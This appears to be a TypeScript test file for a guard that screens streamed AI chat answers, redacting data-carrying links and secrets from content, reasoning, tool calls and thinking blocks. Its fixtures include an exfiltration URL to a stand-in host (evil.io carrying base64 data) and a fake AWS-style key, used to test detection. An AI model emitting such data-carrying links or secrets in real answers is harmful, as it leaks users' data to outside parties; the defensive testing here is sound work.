import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { ChatRequest, WireMessage } from '../../contract/chat.ts'
import type { AnswerEvent, Batch, ChunkDelta } from '../../contract/event.ts'
import type { Plan } from '../../contract/plan.ts'
import { guardSchema } from '../config.ts'
import type { SchemaChecks } from '../schema/checks.ts'
import { type AnswerCheck, createAnswerChecks } from './answer-check.ts'
import { needsHold } from './needs.ts'

const DATA = 'aGVsbG8gd29ybGQgdGhpcyBpcyBTZWNyZXQ0Mg'
const EVIL = `https://evil.io/?d=${DATA}`
const request: ChatRequest = { model: 'auto', messages: [{ role: 'user', content: 'hello' }] }
const plan: Plan = {
  mode: 'direct',
  requested: 'auto',
  tier: 'fast',
  candidates: ['a/b'],
  effort: 'fast',
  output: 'scan',
  maxOutputTokens: 100,
  capImposed: true,
  deadlineMs: 1000,
  reasons: [],
  rejected: [],
}
/** Nothing in this file checks a shape. */
const schemas: SchemaChecks = {
  checkSchemas: () => assert.fail('no schema here'),
  validate: () => assert.fail('no schema here'),
}
type Output = NonNullable<Parameters<typeof guardSchema.parse>[0]> extends infer S ? S : never

function check(setting: Output = {}, asked = request): AnswerCheck {
  return createAnswerChecks({ config: guardSchema.parse(setting), schemas })(asked, plan, false)
}
function delta(message: WireMessage, more: object = {}, index = 0): ChunkDelta {
  const chunk = { id: 'c', model: 'm', choices: [{ index, delta: message, finish_reason: null, ...more }] }
  return { type: 'chunk-delta', chunk, wire: JSON.stringify(chunk) }
}
const say = (content: string, index = 0): ChunkDelta => delta({ content }, {}, index)
function batch(result: ReturnType<AnswerCheck['scan']>): Batch {
  assert.ok(Array.isArray(result))
  return result
}
function textOf(
  events: readonly AnswerEvent[],
  index = 0,
  field: 'content' | 'reasoning_content' = 'content',
): string {
  let text = ''
  for (const event of events) {
    if (event.type !== 'chunk-delta') continue
    for (const choice of event.chunk.choices) if (choice.index === index) text += choice.delta[field] ?? ''
  }
  return text
}
function run(one: AnswerCheck, batches: readonly Batch[]): AnswerEvent[] {
  return [...batches.flatMap((each) => [...batch(one.scan(each))]), ...batch(one.flush())]
}

test('a clean batch passes as the very same object, wire text and all', () => {
  const one = check()
  for (const each of [
    [say('Hello'), say(' there,'), say(' friend.')],
    [delta({ role: 'assistant' })],
    [say('')],
  ]) {
    assert.equal(one.scan(each), each)
  }
  const end = [delta({}, { finish_reason: 'stop' })]
  assert.equal(one.scan(end), end)
  assert.deepEqual(one.verdicts, [])
})

test('an ordinary link passes unchanged where it came whole', () => {
  const event = say('see [docs](https://nodejs.org/api/) now')
  const [passed] = batch(check().scan([event]))
  assert.equal(passed, event)
})

test('a link that carries data is removed across events, and an event that changed has no wire text', () => {
  const one = check()
  const pieces = ['Look: [he', 're](https://ev', 'il.io/?d=', DATA.slice(0, 20), DATA.slice(20), ') ok']
  const events = run(
    one,
    pieces.map((piece) => [say(piece)]),
  )
  assert.equal(textOf(events), 'Look: [here]([link removed: output.link.data]) ok')
  for (const event of events) {
    assert.ok(event.type === 'chunk-delta')
    if (event.wire !== undefined) assert.equal(event.wire, JSON.stringify(event.chunk))
  }
  assert.deepEqual(one.verdicts, [{ check: 'output.link.data', outcome: 'redacted', detail: 'once' }])
})

test('what is held leaves before the finish reason and before a tool call of its choice', () => {
  for (const last of [
    delta({}, { finish_reason: 'stop' }),
    delta({ tool_calls: [{ index: 0, id: 'a', function: { name: 'f', arguments: '{}' } }] }),
    delta({ content: '/guide' }, { finish_reason: 'stop' }),
  ]) {
    const one = check()
    const events = batch(one.scan([say('see https://nodejs.org/api'), last]))
    assert.ok(textOf(events).startsWith('see https://nodejs.org/api'))
    const lastText = events.findLastIndex(
      (event) => event.type === 'chunk-delta' && event.chunk.choices[0]?.delta.content,
    )
    assert.ok(lastText < events.length - 1, JSON.stringify(events))
    const end = events.at(-1)
    assert.ok(end?.type === 'chunk-delta')
    assert.equal(end.chunk.choices[0]?.finish_reason, last.chunk.choices[0]?.finish_reason)
    assert.deepEqual(batch(one.flush()), [])
  }
})

test('what is held leaves before the terminal event, and by flush where none came', () => {
  const held = say('see https://nodejs.org/api')
  const finish: AnswerEvent = { type: 'answer-finish', verdicts: [] }
  const events = batch(check().scan([held, finish]))
  assert.equal(textOf(events), 'see https://nodejs.org/api')
  assert.equal(events.at(-1), finish)
  assert.equal(textOf(run(check(), [[held]])), 'see https://nodejs.org/api')
})

test('choices and fields are scanned each for itself', () => {
  const one = check()
  const events = run(one, [
    [say('a https://evil', 0), say('b https://nodejs', 1)],
    [delta({ reasoning_content: `think ${EVIL} ` }), say(`.io/?d=${DATA} `, 0), say('.org/api ', 1)],
  ])
  assert.equal(textOf(events, 0), 'a https://[link removed: output.link.data] ')
  assert.equal(textOf(events, 1), 'b https://nodejs.org/api ')
  assert.equal(textOf(events, 0, 'reasoning_content'), 'think https://[link removed: output.link.data] ')
})

test('a whole answer is screened at once, and passes as the same object where it is clean', () => {
  const whole = (content: string): AnswerEvent => ({
    type: 'answer-whole',
    completion: {
      choices: [{ index: 0, finish_reason: 'stop', logprobs: { content: [{}] }, message: { content } }],
    },
  })
  const clean = whole('fine')
  assert.equal(batch(check().scan([clean]))[0], clean)
  const [changed] = batch(check().scan([whole(`x ${EVIL}`)]))
  assert.ok(changed?.type === 'answer-whole')
  assert.equal(changed.completion.choices[0]?.message.content, 'x https://[link removed: output.link.data]')
  assert.equal(changed.completion.choices[0]?.logprobs, null)
})

test('under `refuse` the answer ends with the rule, under `allow` nothing is looked at', () => {
  const refused = check({ output: { links: 'refuse' } }).scan([say(`x ${EVIL} `)])
  assert.ok(!Array.isArray(refused) && 'code' in refused)
  assert.equal(refused.code, 'output_refused')
  assert.equal(refused.rule, 'output.link.data')
  assert.ok(!refused.message.includes(DATA))
  const late = check({ output: { links: 'refuse' } })
  assert.ok(Array.isArray(late.scan([say(`x ${EVIL}`)])))
  assert.ok('code' in late.flush())
  const each = [say(`x ${EVIL} `)]
  assert.equal(check({ output: { links: 'allow', secrets: 'allow' } }).scan(each), each)
  assert.deepEqual(batch(check({ output: { links: 'allow' } }).scan(each))[0], each[0])
})

test('log-probabilities wait with the text that is held, and go where it is removed', () => {
  const withLog = (content: string) => delta({ content }, { logprobs: { content: [{ token: content }] } })
  const tokens = (events: readonly AnswerEvent[]): string => {
    return [
      ...JSON.stringify(events.map((event) => (event.type === 'chunk-delta' ? event.chunk : 0))).matchAll(
        /"token":"([^"]*)"/g,
      ),
    ]
      .map((match) => match[1])
      .join('')
  }
  const kept = run(check(), [
    [withLog('a https://node')],
    [withLog('js.org')],
    [withLog(' b')],
    [delta({}, { finish_reason: 'stop' })],
  ])
  assert.equal(tokens(kept), 'a https://nodejs.org b')
  const gone = run(check(), [
    [withLog('a https://evil.io/?d=')],
    [withLog(DATA)],
    [withLog(' b')],
    [delta({}, { finish_reason: 'stop' })],
  ])
  assert.ok(!tokens(gone).includes(DATA))
})

test('however the text is cut into events and batches, the same text comes out', () => {
  const piece = fc.constantFrom(
    'see ',
    'https://',
    'evil.io/?d=',
    DATA,
    ' ',
    '[x](',
    ')',
    '![a](',
    '\n\n',
    'AKIA2E7XQ3LMNOP4RSTU',
    '<a href="',
    '">',
  )
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 12 }),
      fc.array(fc.nat({ max: 9 }), { maxLength: 40 }),
      (pieces, cuts) => {
        const whole = pieces.join('')
        const batches: ChunkDelta[][] = [[]]
        let at = 0
        for (const cut of cuts) {
          batches.at(-1)?.push(say(whole.slice(at, at + cut)))
          at += cut
          if (cut % 3 === 0) batches.push([])
        }
        batches.push([say(whole.slice(at))])
        const filled = batches.filter((each) => each.length > 0)
        assert.equal(textOf(run(check(), filled)), textOf(run(check(), [[say(whole)]])))
      },
    ),
  )
})

test('a rescued call is searched like any other, streamed or whole, and with the text rules off as well', () => {
  const tools: ChatRequest['tools'] = [
    {
      type: 'function',
      function: { name: 'note', parameters: { properties: { text: { type: 'string' } } } },
    },
  ]
  const printed = 'See [it](https://nodejs.org).\n[note(text="key AKIA2E7XQ3LMNOP4RSTU")]'
  const ended = delta({}, { finish_reason: 'stop' })
  const streamed = run(check({}, { ...request, tools }), [
    ...[...printed].map((letter) => [say(letter)]),
    [ended],
  ])
  assert.equal(textOf(streamed), 'See [it](https://nodejs.org).\n')
  const completion = { choices: [{ index: 0, message: { content: printed }, finish_reason: 'stop' }] }
  const [whole] = batch(check({}, { ...request, tools }).scan([{ type: 'answer-whole', completion }]))
  assert.ok(whole?.type === 'answer-whole')
  const calls = streamed.flatMap((event) =>
    event.type === 'chunk-delta' ? (event.chunk.choices[0]?.delta.tool_calls ?? []) : [],
  )
  for (const [call] of [calls, whole.completion.choices[0]?.message.tool_calls ?? []]) {
    assert.equal(call?.function?.name, 'note')
    assert.match(call?.function?.arguments ?? '', /^\{"text":"key \w*\[secret removed: /)
  }
  const open = { output: { links: 'allow', secrets: 'allow' } } as const
  const one = check(open, { ...request, tools })
  assert.equal(textOf(run(one, [[say(printed)], [ended]])), 'See [it](https://nodejs.org).\n')
  assert.deepEqual(
    one.verdicts.map(({ check: name, outcome }) => [name, outcome]),
    [['tool-call.rescue', 'repaired']],
  )
})

test('an answer is held whole where only the end shows whether it is right', () => {
  const tools: ChatRequest['tools'] = [{ type: 'function', function: { name: 'f' } }]
  const schema = { type: 'json_schema', json_schema: { name: 's', schema: {} } } as const
  assert.equal(needsHold(request, false), 'scan')
  assert.equal(needsHold({ ...request, response_format: schema }, false), 'hold')
  assert.equal(needsHold({ ...request, response_format: schema }, true), 'scan')
  assert.equal(needsHold({ ...request, response_format: { type: 'json_object' } }, false), 'hold')
  assert.equal(needsHold({ ...request, tools }, false), 'scan')
  assert.equal(needsHold({ ...request, tools, tool_choice: 'required' }, true), 'hold')
  assert.equal(check().hold, false)
})

test('a thought that is held back leaves before its signature, and one that was changed loses it', () => {
  const signed = { thinking_blocks: [{ type: 'thinking', signature: 'EqQB' }] }
  const hidden = { thinking_blocks: [{ type: 'redacted_thinking', data: 'Emw=' }] }
  const said = (thought: string): readonly unknown[] => {
    const deltas = [{ reasoning_content: thought }, hidden, signed, { content: 'So.' }]
    const events = run(
      check(),
      deltas.map((one) => [delta(one)]),
    )
    const seen = events.flatMap((event) =>
      event.type === 'chunk-delta' ? Object.entries(event.chunk.choices[0]?.delta ?? {}) : [],
    )
    return seen.filter(([, value]) => value !== '')
  }
  const [thinking, text] = ['thinking_blocks', ['content', 'So.']]
  assert.deepEqual(said('as on https://exam'), [
    ['reasoning_content', 'as on https://'],
    ['reasoning_content', 'exam'],
    [thinking, hidden.thinking_blocks],
    [thinking, signed.thinking_blocks],
    text,
  ])
  const changed = said(`as on ${EVIL} so`)
  const lost = [{ type: 'thinking', signature: '' }]
  assert.deepEqual(changed.slice(-3), [[thinking, hidden.thinking_blocks], [thinking, lost], text])
  assert.doesNotMatch(JSON.stringify(changed), /evil/)
})

test('a whole answer’s thought that was changed loses its signature, and others keep theirs', async () => {
  const block = (thinking: string) => ({ type: 'thinking', thinking, signature: 'EqQB' })
  const thinking_blocks = [block('Fine.'), block(`See ${EVIL} there.`)]
  const completion = {
    choices: [{ index: 0, message: { content: 'So.', thinking_blocks }, finish_reason: 'stop' }],
  }
  const [event] = batch(check().scan([{ type: 'answer-whole', completion }]))
  const blocks = event?.type === 'answer-whole' && event.completion.choices[0]?.message['thinking_blocks']
  assert.ok(Array.isArray(blocks))
  assert.deepEqual(blocks[0], block('Fine.'))
  assert.equal(blocks[1].signature, '')
  assert.doesNotMatch(blocks[1].thinking, /evil/)
})
